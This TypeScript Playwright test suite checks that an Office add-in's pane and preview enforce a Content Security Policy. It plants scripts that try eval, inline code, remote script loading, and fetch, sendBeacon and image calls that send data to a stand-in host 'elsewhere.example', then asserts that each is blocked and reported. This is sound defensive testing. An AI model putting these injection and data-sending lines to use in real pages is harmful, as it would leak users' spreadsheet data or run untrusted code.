import type { Frame, Page } from 'playwright-core';
import { eventually } from './eventually';
import { paneFrame, untilRead } from './opened-workbooks';
import { paneTour } from './pane-tour';
import { startBrowser, type PreviewBrowser, type PreviewPage } from './preview-page';

jest.setTimeout(120_000);

const OFFICE_JS = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';

let browser: PreviewBrowser;

beforeAll(async () => {
  browser = await startBrowser();
});

afterAll(async () => {
  await browser.close();
});

interface Watched {
  /** What the policy of one of the page's frames has kept from happening: `directive address`. */
  readonly violations: string[];
  /** Addresses elsewhere that something was sent to. */
  readonly sentElsewhere: readonly string[];
}

/** Runs in every frame before its scripts. */
function reportViolations(): void {
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    const tell: unknown = Reflect.get(window, 'tellViolation');
    if (typeof tell === 'function') Reflect.apply(tell, window, [`${effectiveDirective} ${blockedURI}`]);
  });
}

/** Watches a page that is loaded from now on. */
async function watch(page: Page): Promise<Watched> {
  const violations: string[] = [];
  const sentElsewhere: string[] = [];
  await page.exposeFunction('tellViolation', (violation: string) => violations.push(violation));
  await page.addInitScript(reportViolations);
  // Asked by whatever lets a request out; what the policy blocks does not come as far.
  await page.route(
    (address) => !address.href.startsWith(browser.address),
    (route) => {
      sentElsewhere.push(route.request().url());
      return route.abort();
    },
  );
  return { violations, sentElsewhere };
}

/** A preview that has been watched from its beginning. */
async function openWatched(): Promise<PreviewPage & Watched> {
  const preview = await browser.open({ waits: false });
  const watched = await watch(preview.page);
  await preview.page.reload();
  await untilRead(preview);
  return { ...preview, ...watched };
}

test('the whole job breaks no policy, asks nothing of others, and leaves the console silent', async () => {
  const preview = await openWatched();
  for await (const page of paneTour(preview, 'en')) expect(page).not.toBe('');
  expect(preview.violations).toEqual([]);
  expect(preview.sentElsewhere).toEqual([]);
  expect(preview.complaints).toEqual([]);
  await preview.page.close();
});

test('the page of the release asks for one thing from elsewhere, the client library', async () => {
  const page = await browser.blank();
  const { sentElsewhere, violations } = await watch(page);
  await page.goto(`${browser.address}add-in/taskpane.html`);
  expect(sentElsewhere).toEqual([OFFICE_JS]);
  expect(violations).toEqual([]);
  await page.close();
});

describe.each(['the pane', 'the preview'] as const)('what a script of %s must not do is blocked and told', (where) => {
  let preview: PreviewPage & Watched;
  let frame: Frame;

  beforeAll(async () => {
    preview = await openWatched();
    frame = where === 'the pane' ? paneFrame(preview) : preview.page.mainFrame();
  });

  afterAll(async () => {
    await preview.page.close();
  });

  /** Runs a script as the page's own, from its own origin. */
  async function runOwnScript(name: string, body: string): Promise<void> {
    await preview.page.route(`**/${name}.js`, (route) => route.fulfill({ contentType: 'text/javascript', body }));
    await frame.evaluate((file) => {
      const script = document.createElement('script');
      script.src = `/${file}.js`;
      document.head.append(script);
    }, name);
  }

  const elsewhere = 'https://elsewhere.example';
  const inline = "document.createElement('script')";
  const faults: readonly (readonly [string, string, string])[] = [
    ['eval', "eval('window.wasRun = true')", 'script-src eval'],
    ['function', "new Function('window.wasRun = true')()", 'script-src eval'],
    ['timer', "setTimeout('window.wasRun = true')", 'script-src eval'],
    [
      'inline',
      `document.head.append(Object.assign(${inline}, { text: 'window.wasRun = true' }))`,
      'script-src-elem inline',
    ],
    ['handler', "document.head.setAttribute('onclick', 'window.wasRun = true')", 'script-src-attr inline'],
    [
      'script',
      `document.head.append(Object.assign(${inline}, { src: '${elsewhere}/a.js' }))`,
      `script-src-elem ${elsewhere}/a.js`,
    ],
    ['request', `fetch('${elsewhere}/b')`, `connect-src ${elsewhere}/b`],
    ['beacon', `navigator.sendBeacon('${elsewhere}/c', 'cells')`, `connect-src ${elsewhere}/c`],
    ['picture', `new Image().src = '${elsewhere}/d.png'`, `img-src ${elsewhere}/d.png`],
  ];

  test.each(faults)('%s', async (name, body, violation) => {
    preview.violations.length = 0;
    await runOwnScript(`planted-${name}`, body);
    await eventually(() => Promise.resolve(preview.violations.join()), violation);
    expect(await frame.evaluate(() => Reflect.has(window, 'wasRun'))).toBe(false);
    expect(preview.sentElsewhere).toEqual([]);
  });

  test('while a script of its own that keeps to the policy runs', async () => {
    await runOwnScript('harmless', 'window.isHarmless = true');
    await eventually(() => frame.evaluate(() => Reflect.has(window, 'isHarmless')), true);
  });
});
